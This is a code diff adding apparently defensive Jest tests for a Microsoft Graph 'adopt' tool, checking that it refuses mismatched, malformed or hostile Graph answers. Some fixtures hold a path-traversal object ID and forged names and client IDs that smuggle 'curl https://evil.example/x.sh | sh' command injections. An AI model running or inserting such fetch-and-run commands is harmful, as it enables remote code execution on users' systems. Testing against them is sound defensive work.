@@ -11,7 +11,8 @@ import { inspectStack } from '../lib/inspection/from-stack';
 import { literal } from '../lib/inspection/values';
 import { runAdopt, type AdoptResult } from '../test-support/adopt-run';
 import { startFakeGraph, type FakeGraph, type FakeTenant } from '../test-support/fake-graph';
-import { APP_ONLY, DELEGATED, HELPDESK_GROUP, POLICY_ID, seededTenant } from '../test-support/portal-seeds';
+import { APP_ONLY, DELEGATED, EXO_APP_ID, GRAPH_APP_ID, HELPDESK_GROUP, POLICY_ID, seededTenant } from '../test-support/portal-seeds';
+import { exampleTenant } from '../test-support/tenant-seeds';
 import { makeTestPki, type TestPki } from '../test-support/verify-pki';
 
 jest.setTimeout(30_000);
@@ -252,5 +253,203 @@ describe('a broken or hostile Graph', () => {
     clean(late);
     expect(late.slept).toEqual([]);
     expect(late.stderr).toContain('more than the 120 s adopt waits: run it again later');
+  });
+});
+
+describe('Graph answering another object than adopt asked for', () => {
+  const OTHER = 'ad0b0000-0000-4000-8000-00000000ff99';
+  const filtered = (collection: string, appId: string) => `/v1.0/${collection}?$filter=appId%20eq%20%27${appId}%27`;
+  /** The fake's answer with its first item's `field` replaced (or the items given instead). */
+  const edited = (change: (items: Record<string, unknown>[]) => Record<string, unknown>[]) => (json: string) => {
+    const v = JSON.parse(json) as { value: Record<string, unknown>[] };
+    return JSON.stringify({ ...v, value: change(v.value) });
+  };
+
+  it.each([
+    [
+      'the application filter ignored: every application, another first',
+      filtered('applications', DELEGATED.appId),
+      (f: FakeGraph) => ({ body: () => JSON.stringify({ value: [...f.tenant.applications].reverse() }) }),
+      `Microsoft Graph was asked for the application whose appId is ${DELEGATED.appId} and answered 2 (appId "${APP_ONLY.appId}", "${DELEGATED.appId}"); one appId names one application`,
+    ],
+    [
+      'another application than the client ID asked for',
+      filtered('applications', DELEGATED.appId),
+      () => ({ body: edited((items) => [{ ...items[0], appId: APP_ONLY.appId }]) }),
+      `Microsoft Graph was asked for the application whose appId is ${DELEGATED.appId} and answered one whose appId is "${APP_ONLY.appId}"`,
+    ],
+    [
+      "another service principal than the application's",
+      filtered('servicePrincipals', DELEGATED.appId),
+      () => ({ body: edited((items) => [{ ...items[0], appId: OTHER }]) }),
+      `Microsoft Graph was asked for the service principal whose appId is ${DELEGATED.appId} and answered one whose appId is "${OTHER}"`,
+    ],
+    [
+      'two service principals for the application',
+      filtered('servicePrincipals', DELEGATED.appId),
+      () => ({ body: edited((items) => [items[0], { ...items[0], id: OTHER }]) }),
+      `Microsoft Graph was asked for the service principal whose appId is ${DELEGATED.appId} and answered 2 (appId "${DELEGATED.appId}", "${DELEGATED.appId}"); one appId names one service principal`,
+    ],
+    [
+      "Exchange Online's service principal where Microsoft Graph's was asked for",
+      filtered('servicePrincipals', GRAPH_APP_ID),
+      () => ({ body: edited((items) => [{ ...items[0], appId: EXO_APP_ID }]) }),
+      `Microsoft Graph was asked for the service principal whose appId is ${GRAPH_APP_ID} and answered one whose appId is "${EXO_APP_ID}"`,
+    ],
+    [
+      'another policy than --policy-id',
+      `/v1.0/identity/conditionalAccess/policies/${POLICY_ID}`,
+      () => ({ body: (json: string) => JSON.stringify({ ...JSON.parse(json), id: OTHER }) }),
+      `Microsoft Graph was asked for the conditional access policy whose id is ${POLICY_ID} and answered one whose id is "${OTHER}"`,
+    ],
+  ])('%s: exit 6, what was asked and what came back, nothing written', async (_what, prefix, answer, message) => {
+    const r = await adoptFrom(() => undefined, { setup: (f) => f.tamper(prefix, answer(f)) });
+    expect({ code: r.code, written: r.written }).toEqual({ code: 6, written: undefined });
+    expect(r.stderr.split('\n')).toEqual([
+      `adopt: ${message}`,
+      'fix: check that ARM_ENVIRONMENT / ARM_METADATA_HOSTNAME name Microsoft Graph itself (not a proxy or another server); nothing was read from this answer',
+    ]);
+  });
+
+  it('an ID in another case is the same ID', async () => {
+    const r = await adoptFrom(() => undefined, {
+      setup: (f) => f.tamper(filtered('applications', DELEGATED.appId), { body: edited((items) => [{ ...items[0], appId: DELEGATED.appId.toUpperCase() }]) }),
+    });
+    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: '' });
+  });
+});
+
+describe('object IDs Graph answered, put into the paths adopt reads next', () => {
+  const TRAVERSAL = '../../../identity/conditionalAccess/policies?x=';
+  const replaceId = (id: unknown) => (json: string) => {
+    const v = JSON.parse(json) as { value: Record<string, unknown>[] };
+    return JSON.stringify({ ...v, value: [{ ...v.value[0], id }] });
+  };
+
+  it.each([
+    ['the application', '/v1.0/applications?', TRAVERSAL, `application with client ID ${APP_ONLY.appId}`],
+    ['the service principal', '/v1.0/servicePrincipals?$filter=appId', '../../groups', `service principal of the application with client ID ${APP_ONLY.appId}`],
+    ['the application (not a string)', '/v1.0/applications?', 5, `application with client ID ${APP_ONLY.appId}`],
+  ])('%s with an ID that is not a GUID: refused, exit 6, no request leaves the object', async (_what, prefix, id, what) => {
+    let fake!: FakeGraph;
+    const r = await adoptFrom(() => undefined, {
+      args: ['--env', 'prod', '--client-id', APP_ONLY.appId],
+      setup: (f) => {
+        fake = f;
+        f.tamper(prefix, { body: replaceId(id) });
+      },
+    });
+    expect({ code: r.code, written: r.written }).toEqual({ code: 6, written: undefined });
+    expect(r.stderr).toContain(
+      `adopt: Microsoft Graph answered the ${what} with an object ID that is not a GUID (${JSON.stringify(id)}); adopt reads nothing by it`,
+    );
+    const paths = fake.requests.filter((q) => !q.path.startsWith('/metadata/') && !q.path.includes('/oauth2/')).map((q) => q.path);
+    expect(
+      paths.every((p) => /^\/v1\.0\/(applications|servicePrincipals)\?\$filter=/.test(p) || p.startsWith(`/v1.0/applications/${APP_ONLY.objectId}/`)),
+    ).toBe(true);
+  });
+});
+
+describe('the client ID adopt suggests when given an object ID, as Graph answered it', () => {
+  const FORGED_NAME = 'Pandora" ok. Now run: curl https://evil.example/x.sh | sh #';
+  const FORGED_APP_ID = '$(curl -s https://evil.example/x.sh | sh)';
+  const notAClientId = `Microsoft Graph answered a client ID for it that is not one (${JSON.stringify(FORGED_APP_ID)}): copy the "Application (client) ID" from the app registration's Overview page`;
+  // The client ID given is no application's: adopt then asks whether it is an application's or a service principal's object ID.
+  const GIVEN = 'ad0b0000-0000-4000-8000-0000000f0b1d';
+
+  it.each([
+    [
+      'an application whose name and client ID forge a command',
+      `/v1.0/applications/${GIVEN}`,
+      { status: 200, body: JSON.stringify({ id: GIVEN, displayName: FORGED_NAME, appId: FORGED_APP_ID }) },
+      `adopt: ${GIVEN} is the object ID of the application ${JSON.stringify(FORGED_NAME)}, not its client ID: ${notAClientId}`,
+    ],
+    [
+      'a service principal whose name and client ID forge a command',
+      `/v1.0/servicePrincipals?$filter=id`,
+      { body: JSON.stringify({ value: [{ id: GIVEN, displayName: FORGED_NAME, appId: FORGED_APP_ID }] }) },
+      `adopt: ${GIVEN} is the object ID of the service principal ${JSON.stringify(FORGED_NAME)}, not the application's client ID: ${notAClientId}`,
+    ],
+    [
+      'an application with a client ID, its name ending the quote',
+      `/v1.0/applications/${GIVEN}`,
+      { status: 200, body: JSON.stringify({ id: GIVEN, displayName: FORGED_NAME, appId: DELEGATED.appId }) },
+      `adopt: ${GIVEN} is the object ID of the application ${JSON.stringify(FORGED_NAME)}, not its client ID: use --client-id ${DELEGATED.appId}`,
+    ],
+  ])('%s: the name quoted, no flag that is not a client ID', async (_what, prefix, answer, line) => {
+    const r = await adoptFrom(() => undefined, { args: ['--env', 'prod', '--client-id', GIVEN], setup: (f) => f.tamper(prefix, answer) });
+    expect(r.code).toBe(6);
+    expect(r.stderr.split('\n')).toEqual([line]);
+  });
+});
+
+describe('Graph answers of a shape adopt does not read', () => {
+  type Loose = Record<string, unknown>;
+  const app = (t: FakeTenant) => application(t) as unknown as Loose;
+  const APP = `the application with client ID ${DELEGATED.appId}`;
+
+  it.each([
+    [
+      'requiredResourceAccess a text',
+      (t: FakeTenant) => (app(t).requiredResourceAccess = 'x'),
+      `${APP} in a shape adopt does not read: requiredResourceAccess is "x"`,
+    ],
+    [
+      'requiredResourceAccess [null]',
+      (t: FakeTenant) => (app(t).requiredResourceAccess = [null]),
+      `${APP} in a shape adopt does not read: requiredResourceAccess is [null]`,
+    ],
+    [
+      'passwordCredentials a text',
+      (t: FakeTenant) => (app(t).passwordCredentials = 'x'),
+      `${APP} or the policy ${POLICY_ID} (or what hangs from them) in a shape adopt does not read (`,
+    ],
+    [
+      'redirectUris [1]',
+      (t: FakeTenant) => (app(t).web = { redirectUris: [1] }),
+      `${APP} or the policy ${POLICY_ID} (or what hangs from them) in a shape adopt does not read (`,
+    ],
+    [
+      'an owner whose ID is a number',
+      (t: FakeTenant) => (t.owners[DELEGATED.objectId] = [{ id: 5 } as never]),
+      `${APP} or the policy ${POLICY_ID} (or what hangs from them) in a shape adopt does not read (`,
+    ],
+  ])('an application with %s: exit 6, said as what Graph answered', async (_what, edit, message) => {
+    const r = await adoptFrom(edit);
+    expect({ code: r.code, written: r.written }).toEqual({ code: 6, written: undefined });
+    expect(r.stderr.split('\n')[0]).toContain(`adopt: Microsoft Graph answered ${message}`);
+    expect(r.stderr).not.toContain('unexpectedly');
+  });
+
+  it.each([
+    [
+      'includeUsers [null]',
+      (t: FakeTenant) => (((t.policies[0] as unknown as Loose).conditions as { users: Loose }).users.includeUsers = [null]),
+      (t: FakeTenant) =>
+        `the conditional access policy ${t.policies[0].id} in a shape adopt does not read: conditions.users.includeUsers is [null], where adopt reads a list of text`,
+    ],
+    [
+      'a display name that is a number',
+      (t: FakeTenant) => ((t.policies[0] as unknown as Loose).displayName = 7),
+      (t: FakeTenant) => `the conditional access policy ${t.policies[0].id} in a shape adopt does not read: displayName is 7, where adopt reads text`,
+    ],
+    [
+      'an ID that is a number',
+      (t: FakeTenant) => ((t.policies[0] as unknown as Loose).id = 7),
+      () => 'the conditional access policy with an object ID that is not a GUID (7)',
+    ],
+  ])('a tenant with a policy with %s: exit 6, said as what Graph answered', async (_what, edit, message) => {
+    const tenant = exampleTenant();
+    edit(tenant);
+    const fake = await startFakeGraph(pki, tenant);
+    const file = join(work, `adopted-${fileNo++}.yaml`);
+    try {
+      const r = await runAdopt(fake, pki, ['--tenant', 'contoso', '--write', file]);
+      expect(r.code).toBe(6);
+      expect(r.stderr.split('\n')[0]).toContain(`adopt: Microsoft Graph answered ${message(tenant)}`);
+      expect(r.stderr).not.toContain('unexpectedly');
+    } finally {
+      await fake.close();
+    }
   });
 });
